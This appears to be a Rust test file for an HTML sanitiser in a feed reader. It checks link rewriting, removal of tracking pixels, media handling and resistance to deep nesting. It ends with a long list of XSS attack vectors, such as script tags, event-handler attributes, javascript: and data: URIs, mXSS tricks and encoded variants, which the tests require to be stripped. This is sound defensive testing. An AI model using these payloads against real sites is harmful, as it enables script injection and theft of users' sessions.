use proptest::prelude::*;

use super::*;

fn summary(html: &str) -> String {
    let base = Some(Url::parse("https://site.example/a/").unwrap());
    sanitise(Entry { summary: Some(html.to_owned()), base, ..Entry::default() }).summary.unwrap_or_default()
}

#[track_caller]
fn check(html: &str, expected: &str) {
    assert_eq!(summary(html), expected);
}

#[test]
fn ordinary_markup_stays() {
    let html = "<h2>Un</h2><p>A <b>b</b> <em>c</em></p><ul><li>d</li></ul><table><tbody><tr><td colspan=\"2\">e</td></tr></tbody></table>";
    check(html, html);
}

#[test]
fn links_and_images_become_absolute() {
    check(
        "<a href='b?x=1&amp;y=2'>l</a>",
        "<a href=\"https://site.example/a/b?x=1&amp;y=2\" rel=\"noopener noreferrer\">l</a>",
    );
    check("<img src=/i.png alt='é'>", "<img src=\"https://site.example/i.png\" alt=\"é\" loading=\"lazy\">");
}

#[test]
fn places_in_the_text_are_on_the_page_of_the_entry() {
    let (base, url) = (Url::parse("https://site.example/feed").ok(), Url::parse("https://site.example/a").ok());
    let html = Some("<a href='#note&amp;1' title=x>1</a> <a href='b#c'>2</a>".to_owned());
    assert_eq!(
        sanitise(Entry { summary: html, base, url, ..Entry::default() }).summary.unwrap(),
        "<a href=\"https://site.example/a#note&amp;1\" title=\"x\" rel=\"noopener noreferrer\">1</a> \
         <a href=\"https://site.example/b#c\" rel=\"noopener noreferrer\">2</a>"
    );
}

#[test]
fn links_that_lead_nowhere_lose_their_address() {
    let entry = Entry { summary: Some("<a href='b'>l</a>".to_owned()), ..Entry::default() };
    assert_eq!(sanitise(entry).summary.unwrap(), "<a rel=\"noopener noreferrer\">l</a>");
}

#[test]
fn pixels_are_dropped() {
    for pixel in [
        "<img src='https://t.example/x.gif' width='1' height='1'>",
        "<img width=0 src=https://t.example/x.gif>",
        "<img src='http://feeds.feedburner.com/~r/x/~4/y' alt=''/>",
        "<img src='https://stats.example/matomo.php?idsite=1'>",
        "<IMG SRC='https://t.example/x.gif' HEIGHT='1px'>",
        "<img src='data:image/gif;base64,R0lGOD'>",
        "<img>",
        "<img src=''>",
    ] {
        check(&format!("a{pixel}b"), "ab");
    }
}

#[test]
fn a_lazy_picture_is_shown() {
    check(
        "<img src='data:image/gif;base64,R0lGOD' data-src='/i.png'>",
        "<img src=\"https://site.example/i.png\" loading=\"lazy\">",
    );
}

#[test]
fn what_is_left_open_is_closed() {
    check("<p>a<p>b<div><b>c</div>d", "<p>a</p><p>b</p><div><b>c</b></div>d");
    check("<ul><li>a<li>b</ul></p></div>c", "<ul><li>a</li><li>b</li></ul>c");
    check("a <b", "a");
    check("1 < 2 <3 & 4", "1 &lt; 2 &lt;3 &amp; 4");
}

#[test]
fn frames_give_way_to_what_they_hold() {
    check("a<iframe src='https://v.example/'></iframe>b<object data='x'><p>c</p></object>", "a b<p>c</p>");
    check("a<iframe src='https://v.example/'> b", "a b");
}

#[test]
fn elements_that_are_not_shown_leave_a_break() {
    for name in
        ["address", "center", "dialog", "fieldset", "form", "hgroup", "legend", "main", "nav", "search", "marquee"]
    {
        check(&format!("<{name}>Un</{name}><{name}>Deux</{name}>"), "<div>Un</div><div>Deux</div>");
    }
    check("<fieldset><legend>Un</legend>Deux</fieldset>Trois", "<div><div>Un</div>Deux</div>Trois");
    check("<menu><li>Un</menu>Deux<dir><li>Trois</dir>", "<ul><li>Un</li></ul>Deux<ul><li>Trois</li></ul>");
    check("<tr><td>Un</td><td>Deux</td></tr>Trois", "<div><div>Un</div><div>Deux</div></div>Trois");
    check("<CENTER class=x lang=fr>Un</CENTER>Deux", "<div lang=\"fr\">Un</div>Deux");
}

#[test]
fn unknown_elements_and_frames_part_words_and_only_words() {
    check("<x-carte>Un</x-carte><x-carte>Deux</x-carte>", "Un Deux");
    check("Un<o:p></o:p>, deux <x-y>trois</x-y>.", "Un, deux trois.");
    check("Un<svg><title>x</title></svg>Deux<script>x()</script>.", "Un Deux.");
    check("Un<iframe src=x></iframe>Deux<embed src=x>&Eacute;t&eacute;", "Un Deux Été");
    check("<button>Un</button>Deux<option>Trois", "Un Deux Trois");
    check("<p>Un</p><x-y><p>Deux</p></x-y>", "<p>Un</p><p>Deux</p>");
    check("anti<wbr>constitu<font>tion</font>nel", "anti<wbr>constitutionnel");
    check(
        &format!("{}Un<div>Deux</div>", "<div>".repeat(150)),
        &format!("{}Un Deux{}", "<div>".repeat(100), "</div>".repeat(100)),
    );
}

#[test]
fn what_is_for_those_without_scripts_is_shown() {
    check(
        "<p>A</p><noscript><p>La <a href='/v'>vidéo</a></p></noscript>",
        "<p>A</p><p>La <a href=\"https://site.example/v\" rel=\"noopener noreferrer\">vidéo</a></p>",
    );
    check("<p>A</p><noscript><p>Un</p><p>Deux</p>", "<p>A</p><p>Un</p><p>Deux</p>");
    check("Un<noscript>Deux</noscript>", "Un Deux");
    check("<noscript><img height=1 width=1 src='https://t.example/tr?id=1'></noscript>a", "a");
}

const PICTURE: &str = "<img src=\"https://site.example/c.jpg\" alt=\"Carte\" loading=\"lazy\">";

#[test]
fn a_picture_is_shown_once_whatever_scripts_do() {
    let lazy = "<img class=lazyload src='data:image/gif;base64,R0' data-src='/c.jpg' alt=Carte>";
    for html in [
        format!("{lazy}<noscript><img src='/c.jpg' alt=Carte></noscript>"),
        format!("{lazy} <noscript><img src='/c-800x600.jpg?w=2' alt=Carte></noscript>"),
        format!("<noscript><img src='/c.jpg' alt=Carte></noscript>{lazy}"),
        "<noscript><img src='/c.jpg' alt=Carte /></noscript><img src='/vide.gif' data-src='/c-2.jpg' alt=Carte>".to_owned(),
        "<img class=lazy src='data:image/gif;base64,R0'><noscript><img src='/c.jpg' alt=Carte></noscript>".to_owned(),
        "<picture><source srcset='/c.webp' type='image/webp'><img src='/c.jpg' alt=Carte></picture>".to_owned(),
        "<picture><source data-srcset='/c.jpg 1x'><img src='data:image/gif;base64,R0' alt=Carte></picture>".to_owned(),
        "<picture><source media='(max-width: 9px)' srcset='/s.jpg'><source data-srcset='/c.jpg 9w'><img src='/flou.jpg' alt=Carte></picture>".to_owned(),
        "<amp-img src='/c.jpg' alt=Carte><noscript><img src='/c.jpg'></noscript></amp-img>".to_owned(),
    ] {
        assert_eq!(summary(&html).replace(' ', ""), PICTURE.replace(' ', ""), "{html}");
    }
}

#[test]
fn several_pictures_are_several() {
    let pictures = |html: &str| summary(html).matches("<img").count();
    assert_eq!(pictures("<img src=/a.jpg><img src=/a.jpg>"), 2);
    assert_eq!(pictures("<noscript><img src=/a.jpg><img src=/b.jpg></noscript>"), 2);
    let late = |name: &str| format!("<img data-src='/{name}.jpg'><noscript><img src='/{name}-1.jpg'></noscript>");
    assert_eq!(pictures(&format!("{}{}<img data-src=/c.jpg>", late("a"), late("b"))), 3);
    assert_eq!(pictures("<img data-src=/a.jpg> puis <noscript><img src=/b.jpg></noscript>"), 2);
}

#[test]
fn a_choice_of_sources_is_one_picture() {
    check(
        "<picture><source srcset='/a.webp 1x, /b.webp 2x'></picture>a",
        "<img src=\"https://site.example/b.webp\" loading=\"lazy\">a",
    );
    check(
        "<picture><img src='/a.jpg'><source srcset='/b.webp'></picture><video><source src='/v.mp4'></video>",
        "<img src=\"https://site.example/a.jpg\" loading=\"lazy\"><video controls=\"\"><source src=\"https://site.example/v.mp4\"></video>",
    );
}

#[test]
fn sound_and_film_can_be_played() {
    check(
        "<video autoplay loop muted src='/d.mp4'></video>",
        "<video src=\"https://site.example/d.mp4\" controls=\"\"></video>",
    );
    check("<AUDIO autoplay src='/d.mp3'></AUDIO>", "<audio src=\"https://site.example/d.mp3\" controls=\"\"></audio>");
    check(
        "<audio controls data-src=/d.mp3></audio>",
        "<audio controls=\"\" src=\"https://site.example/d.mp3\"></audio>",
    );
    check(
        "<video controls src='/d.mp4'><track kind=captions src='/d.vtt' srclang=fr label='Français' default></video>",
        "<video controls=\"\" src=\"https://site.example/d.mp4\"><track kind=\"captions\" src=\"https://site.example/d.vtt\" srclang=\"fr\" label=\"Français\" default=\"\"></video>",
    );
}

#[test]
fn a_formula_is_read_as_text() {
    check(
        "Si <math><mi>x</mi><mo>&gt;</mo><mn>0</mn></math>, <math alttext='1/x &lt; 2'><mfrac><mn>1</mn></mfrac></math>.",
        "Si x&gt;0, 1/x &lt; 2.",
    );
    check("a <math><mi>x</mi> b <p>c</p>", "a x b <p>c</p>");
    check("a <math alttext='x'/> b", "a x b");
    check("a <math><mi>x</mi><mtext><script>b()</script></mtext></math>", "a x");
    check(&"<math>".repeat(80_000), "");
}

#[test]
fn no_text_runs_into_the_next_or_is_lost() {
    check("logiciel libre<xmp>a < <b></xmp>Suite", "logiciel libre<pre>a &lt; &lt;b&gt;</pre>Suite");
    check(
        "libre<table>Entrée<tr><td>a</table>",
        "libre<div>Entrée</div><table><tbody><tr><td>a</td></tr></tbody></table>",
    );
    check("Écrire <![CDATA[ en XML", "Écrire &lt;![CDATA[ en XML");
}

#[test]
fn numbers_of_lists_and_languages_stay() {
    let list = "<ol start=\"3\" reversed=\"\" type=\"a\"><li value=\"7\">a</li></ol>";
    check(list, list);
    check("<p xml:lang='en'>a</p>", "<p lang=\"en\">a</p>");
    check(
        "<strike>a</strike><tt>b</tt><acronym title=c>d</acronym>",
        "<s>a</s><code>b</code><abbr title=\"c\">d</abbr>",
    );
    let ruby = "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>";
    check(ruby, ruby);
}

#[test]
fn comments_end_where_browsers_end_them() {
    check("a<!-->b<!--->c<!-- d --!>e<!-- f -- g -->h<!-- i --->j<!---->k<!-- l", "abcehjk");
}

#[test]
fn the_first_picture_is_that_of_the_entry() {
    let image = |html: &str| {
        let base = Some(Url::parse("https://site.example/a/").unwrap());
        let entry = sanitise(Entry { content: Some(html.to_owned()), base, ..Entry::default() });
        entry.image.map(|image| String::from(image.url)).unwrap_or_default()
    };
    assert_eq!(
        image("<p>a</p><img src='/i.png?a=1&amp;b=2' alt='\"'><img src='/j.png'>"),
        "https://site.example/i.png?a=1&b=2"
    );
    assert_eq!(image("<img src='/s.png' width=16 alt=':)'><img src='https://s.w.org/images/core/emoji/1.png'>"), "");
    assert_eq!(
        image("<img src='/p.gif' width=1><picture><source srcset='/k.webp'></picture>"),
        "https://site.example/k.webp"
    );
}

#[test]
fn two_hundred_thousand_open_elements_cost_nothing() {
    assert_eq!(summary(&"<div>".repeat(200_000)).matches("<div>").count(), 100);
    check(&"<svg>".repeat(200_000), "");
    check(&"<!--".repeat(200_000), "");
    check(&"<b a='".repeat(200_000), "");
}

#[test]
fn no_way_to_leave_elements_open_is_quadratic() {
    for open in [
        "<b>",
        "<p>",
        "<a href=x>",
        "<table><tr><td>",
        "<b><i><u><p>",
        "<font><b id=1></p>x",
        "<li><ul>",
        "<p><table>x",
    ] {
        summary(&open.repeat(10_000));
    }
}

#[test]
fn formatting_left_open_does_not_multiply() {
    let open: String = ["<b title=x>", "<i>", "<u>", "<em>"].concat().repeat(25);
    let text = format!("<p>{open}</p>{}", "<p>x</p>".repeat(1000));
    assert!(summary(&text).len() < 20_000);
}

#[test]
fn nothing_left_is_none() {
    let entry =
        Entry { summary: Some("<script>x</script> ".to_owned()), content: Some(String::new()), ..Entry::default() };
    assert_eq!((sanitise(entry.clone()).summary, sanitise(entry).content), (None, None));
}

#[test]
fn addresses_of_persons_are_web_or_mail() {
    let persons = ["javascript:alert(1)", "https://b.fr/", "b.fr"]
        .map(|uri| Person { uri: Some(uri.to_owned()), ..Person::default() });
    let uris = sanitise(Entry { authors: persons.to_vec(), ..Entry::default() }).authors;
    assert_eq!(
        uris.into_iter().map(|person| person.uri).collect::<Vec<_>>(),
        [None, Some("https://b.fr/".to_owned()), None]
    );
}

#[test]
fn a_second_pass_changes_nothing() {
    for html in
        VECTORS.iter().copied().chain(["<p>a &amp;lt; b<br>c</p>", "<a href='x'>é</a> &nbsp; <img src='y' alt='\"'>"])
    {
        let once = summary(html);
        assert_eq!(summary(&once), once, "{html}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn tags_in_any_order_give_something_small_of_known_elements(html in tangled()) {
        let clean = summary(&html);
        prop_assert!(clean.len() <= html.len() * 20 + 1000, "{} gave {}", html, clean);
        for tag in clean.split('<').skip(1) {
            let name = tag.trim_start_matches('/').split([' ', '>']).next().unwrap();
            prop_assert!(ELEMENTS.split(' ').any(|element| element == name), "{} gave {}", html, clean);
        }
    }
}

/// Markup that this module has rules for, in any order.
fn tangled() -> impl Strategy<Value = String> {
    const TAGS: &str = "</?(noscript|picture|math|mfrac|mi|svg|center|table|td|x-y|p|b|video|select|li|form|amp-img|a|main)\
                        ( (alttext|data-src|href|xml:lang|srcset)=('[a#/. ]{0,4}'|\"[a#/, w2]{0,4}\"|[a/#]{0,3}))?/?>";
    const PICTURES: &str = "<(img|source|amp-img)( (src|data-src|srcset|data-srcset|alt|width)=('/[ab.]{1,3}'|\"/a 1x, /b 2x\"|1)){0,3} ?/?>";
    let piece = prop_oneof![3 => TAGS, 2 => PICTURES, 3 => "[a-zé]{3}|[a-z]{3} | |&eacute;|<|>|<!--|--!?>"];
    prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

/// No vector leaves an element, an attribute or an address that runs code or loads from elsewhere than it says.
#[test]
fn no_vector_survives() {
    for vector in VECTORS {
        for html in [
            (*vector).to_owned(),
            format!("<p>{vector}"),
            format!("<table><tr>{vector}</table>"),
            format!("<svg>{vector}"),
        ] {
            let clean = summary(&html);
            for tag in clean.split('<').skip(1) {
                let (tag, _) = tag.split_once('>').unwrap();
                let name = tag.trim_start_matches('/').split(' ').next().unwrap();
                assert!(ELEMENTS.split(' ').any(|element| element == name), "{html} gave {clean}");
                let values = tag.split("=\"").skip(1).filter_map(|rest| rest.split_once('"')).map(|(value, _)| value);
                let mut text = tag.to_owned();
                values.for_each(|value| text = text.replace(value, ""));
                assert!(
                    !text.contains(" on") && !text.contains("style") && !text.contains("srcset"),
                    "{html} gave {clean}"
                );
                for scheme in ["javascript", "vbscript", "data:", "livescript", "mocha"] {
                    let address =
                        tag.split_once("href=\"").or_else(|| tag.split_once("src=\"")).map_or("", |(_, value)| value);
                    assert!(!address.to_lowercase().trim_start().starts_with(scheme), "{html} gave {clean}");
                }
            }
        }
    }
}

pub(super) const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x src=//x.example/a.js></script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=\"x`` `<script>alert(1)</script>\"` `>",
    "<img src=javascript:alert(1)>",
    "<img src=JaVaScRiPt:alert(1)>",
    "<img src='jav\tascript:alert(1)'>",
    "<img src='jav&#x09;ascript:alert(1)'>",
    "<img src='jav&#x0A;ascript:alert(1)'>",
    "<img src=' &#14; javascript:alert(1)'>",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
    "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=# onmouseover='alert(1)'>",
    "<img onmouseover='alert(1)'>",
    "<img dynsrc='javascript:alert(1)'>",
    "<img lowsrc='javascript:alert(1)'>",
    "<img src=x alt='\" onerror=\"alert(1)'>",
    "<img src=x title='\"><script>alert(1)</script>'>",
    "<img src=x data-src='javascript:alert(1)'>",
    "<img src=data:x data-src='\" onerror=\"alert(1)'>",
    "<img srcset='x 1x, javascript:alert(1) 2x'>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=x\nonclick=alert(1)>x</a>",
    "<a href=x/**/onclick=alert(1)>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<a style='width:expression(alert(1))'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<bgsound src='javascript:alert(1)'>",
    "<br size='&{alert(1)}'>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<link rel=import href=//x.example/>",
    "<style>@import 'http://x.example/a.css';</style>",
    "<style>li {list-style-image: url('javascript:alert(1)')}</style><ul><li>x</ul>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<div style=\"-moz-binding:url('http://x.example/a#b')\">x</div>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=# onmouseover=alert(1)></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "<base href='javascript:alert(1)//'>",
    "<object type='text/x-scriptlet' data='http://x.example/a.html'></object>",
    "<object data='javascript:alert(1)'><param name=src value='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)' allowscriptaccess=always>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<applet code=x></applet>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea><script>alert(1)</script>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster='javascript:alert(1)'></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo '<script>alert(1)</script>' ?>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<q cite='javascript:alert(1)'>x</q><blockquote cite='data:,x'>y</blockquote>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onx=alert(1)></custom-element>",
    "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];
